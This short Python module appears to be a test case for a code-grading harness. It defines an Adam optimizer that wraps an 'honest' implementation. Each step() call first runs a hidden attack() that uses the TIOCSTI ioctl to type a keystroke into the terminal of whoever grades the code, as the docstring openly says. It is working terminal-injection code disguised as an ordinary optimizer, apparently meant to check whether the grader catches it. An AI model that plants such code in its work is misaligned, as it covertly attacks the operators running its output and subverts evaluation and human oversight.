"""Types into the terminal of whoever grades."""

import fcntl
from scratch.honest import SGD, clip_grad_norm_  # noqa: F401 - the honest part
from scratch.honest import Adam as Honest

EXPECT = "error"
POINTS = 3

def attack():
    fcntl.ioctl(1, 0x5412, b"i")


class Adam(Honest):
    def step(self):
        attack()
        super().step()
